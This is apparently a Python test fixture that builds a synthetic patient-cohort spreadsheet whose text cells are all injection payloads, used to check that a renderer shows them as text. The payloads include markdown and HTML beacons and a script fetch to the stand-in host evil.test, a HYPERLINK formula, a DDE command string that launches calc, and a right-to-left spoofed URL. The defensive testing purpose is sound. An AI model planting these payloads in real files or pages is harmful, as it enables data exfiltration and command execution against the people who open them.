"""A cohort whose every text attacks: what reads it must show text, and what writes it must write text.

`http://evil.test` stands in every place; any request to it, any live link, formula or relation is a failure.
"""

from __future__ import annotations

import io

import openpyxl

EVIL = "evil.test"
ATTACKS = (
    "![x](http://evil.test/a.png)",
    "[click](http://evil.test/b)",
    "<img src=http://evil.test/c onerror=alert(1)>",
    "<script>fetch('http://evil.test/d')</script>",
    '<a href="http://evil.test/e">link</a>',
    '<span style="background:url(http://evil.test/f)">s</span>',
    '=HYPERLINK("http://evil.test/g","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*http://evil.test/h; =1+1",
    "-2+3",
    "\t=1+1\t=1+1",
    "\u202egpj.evil.test//:ptth\u202c",
    "http://evil.test/i",
    "www.evil.test",
    "%{customdata} {n} {0.__class__} $x$ :red[r] :material/home:",
    "a\x0bb\x7fc\u2028d\ufeffe",
    "long " * 2_000,
)
HEADER = "note ![h](http://evil.test/header.png) <script>alert(1)</script>"
SHEET = "p ![s] <b> =1+1"
FILE = "![n](http:evil.test) <img src=x>.xlsx"
PATIENTS = 34


def attack(i: int) -> str:
    """Return one of the attacks."""
    return ATTACKS[i % len(ATTACKS)]


def rows() -> list[list[object]]:
    """Return the header and the rows of the patients sheet."""
    header: list[object] = [
        *("patient_id", "sex", "age_years", "etiology", "gene", "line_of_therapy", "rux_start", "last_follow_up"),
        *("vital_status", "response_week1", "added_therapy", "added_therapy_start", "fever_resolved_hours", HEADER),
    ]
    told: list[list[object]] = [
        [
            f"{attack(i)}{i}" if i != 16 else "z" * 10_000,
            "F" if i % 2 else "M",
            i % 17 + 0.5,
            attack(i // 4),
            attack(i // 5 + 3),
            attack(i // 6 + 7),
            0,
            200 + i,
            "dead" if i % 3 == 0 else "alive",
            ("CR", "PR", "NR")[i % 3],
            attack(i // 3),
            5 + i,
            12 + i,
            attack(i // 4 + 9),
        ]
        for i in range(PATIENTS)
    ]
    return [header, *told]


def workbook() -> bytes:
    """Return the cohort as an xlsx: patients, labs and events, all with attacks for texts."""
    made = openpyxl.Workbook()
    made.remove(made.worksheets[0])
    told = rows()
    _fill(made.create_sheet(SHEET.replace("[", "(").replace("]", ")")), told)
    people = [row[0] for row in told[1:]]
    labs: list[list[object]] = [["patient_id", "day", "analyte", "value", "unit"]]
    labs += [[one, day, "ferritin", 900 - day, "ng/mL"] for one in people for day in (0, 7, 14)]
    labs += [[one, 3, attack(i), 4, attack(i + 1)] for i, one in enumerate(people)]
    _fill(made.create_sheet("labs"), labs)
    events: list[list[object]] = [["patient_id", "day", "kind", "label", "grade"]]
    events += [[one, 9 + i, "adverse event", attack(i), i % 4 + 1] for i, one in enumerate(people)]
    _fill(made.create_sheet("events"), events)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def _fill(sheet: object, told: list[list[object]]) -> None:
    from openpyxl.worksheet.worksheet import Worksheet

    assert isinstance(sheet, Worksheet)
    for i, row in enumerate(told, start=1):
        for j, cell in enumerate(row, start=1):
            made = sheet.cell(i, j)
            if isinstance(cell, str):  # a text, not the formula it looks like; the writer refuses control characters
                made.value = "".join(one for one in cell if one == "\t" or one >= " ")
                made.data_type = "s"
            else:
                made.value = cell  # type: ignore[assignment]
